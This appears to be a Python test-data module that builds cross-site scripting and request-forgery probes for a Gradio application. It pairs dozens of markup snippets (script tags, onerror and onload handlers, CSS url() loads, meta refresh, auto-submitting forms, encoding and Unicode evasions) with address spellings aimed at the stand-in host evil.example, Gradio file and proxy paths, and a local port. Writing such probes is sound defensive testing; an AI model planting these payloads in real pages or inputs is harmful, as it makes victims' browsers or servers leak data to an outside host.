"""Ways to make a browser, or our server, call another host: markup that may stand in a letter, name or answer."""

from itertools import product

HOST = "evil.example"
# {u} is the address, as ADDRESSES write it.
MARKUP = (
    "![x]({u})", '![x](<{u}> "t")', "[![x]({u})]({u})", "![x][r]\n\n[r]: {u}\n", "[x]({u})", "<{u}>", "{u}",
    "<img src='{u}'>", "<img srcset='{u} 2x'>", "<IMG/SRC={u}>", "<img src=x onerror=\"fetch('{u}')\">",
    "<svg><image href='{u}'/></svg>", "<svg onload=\"fetch('{u}')\">", "<svg><use href='{u}#a'/></svg>",
    "<svg><style>*{{background:url({u})}}</style></svg>", "<script src='{u}'></script>",
    "<script>fetch('{u}')</script>", "<script>new Image().src='{u}'</script>", "<script>new WebSocket('{u}')</script>",
    "<link rel=stylesheet href='{u}'>", "<link rel=prefetch href='{u}'>", "<link rel=preconnect href='{u}'>",
    "<link rel=icon href='{u}'>", "<link rel=modulepreload href='{u}'>", "<style>@import url({u});</style>",
    "<style>@font-face{{font-family:a;src:url({u})}}*{{font-family:a}}</style>", "<p style=\"background:url({u})\">x</p>",
    "<p style=\"list-style-image:url({u})\">x</p>", "<iframe src='{u}'></iframe>",
    "<iframe srcdoc=\"<img src='{u}'>\"></iframe>", "<object data='{u}'></object>", "<embed src='{u}'>",
    "<video poster='{u}' src='{u}' autoplay></video>", "<audio src='{u}' autoplay></audio>",
    "<picture><source srcset='{u}'><img src=x></picture>", "<input type=image src='{u}'>", "<body background='{u}'>",
    "<table background='{u}'><tr><td>x</table>", "<meta http-equiv=refresh content='0;url={u}'>", "<base href='{u}'>",
    "<form action='{u}'><input autofocus onfocus='this.form.submit()'></form>", "<a href='{u}' ping='{u}'>x</a>",
    "<details open ontoggle=\"fetch('{u}')\">x</details>", "<math><mtext><img src='{u}'></mtext></math>",
    "<noscript><p title=\"</noscript><img src='{u}'>\">", "<template><img src='{u}'></template>",
    "</textarea><img src='{u}'>", "\"><img src='{u}'>", "' autofocus onfocus=\"fetch('{u}')\" x='", "--><img src='{u}'>",
    "]]><img src='{u}'>", "${{fetch('{u}')}}", "`+fetch('{u}')+`", "{{{{{{fetch('{u}')}}}}}}", "javascript:fetch('{u}')",
    "&lt;img src='{u}'&gt;", "&#60;img src='{u}'&#62;", "\\u003cimg src='{u}'\\u003e", "%3Cimg src='{u}'%3E",
    "＜img src='{u}'＞", "<\u200bimg src='{u}'>", "<img\u00a0src='{u}'>", "\u202e<img src='{u}'>",
    "| a | b |\n|---|---|\n| ![x]({u}) | <img src='{u}'> |\n", "# ![x]({u})", "> ![x]({u})", "- ![x]({u})",
    "```\n![x]({u})\n```\n![x]({u})", "[1]: {u}\n\n![x][1]", "![x]({u})[1]",
)  # fmt: skip
ADDRESSES = (
    "http://evil.example/{n}", "https://evil.example/{n}", "//evil.example/{n}", "HtTp://evil.example/{n}",
    "/gradio_api/file=http://evil.example/{n}", "/gradio_api/proxy=http://evil.example/{n}",
    "gradio_api/file=//evil.example/{n}", "&#104;ttp://evil.example/{n}", "ht\ttp://evil.example/{n}",
    "\\\\evil.example\\{n}", "http:evil.example/{n}", "http://127.0.0.1:{port}/{n}",
    "/gradio_api/file=http://127.0.0.1:{port}/{n}", "http://evil。example/{n}",
)  # fmt: skip


def variants(port: int) -> list[str]:
    """Every markup with every way to write the address; `port` is one on this machine that listens."""
    pairs = enumerate(product(MARKUP, ADDRESSES))
    return [markup.format(u=address.format(n=n, port=port)) for n, (markup, address) in pairs]
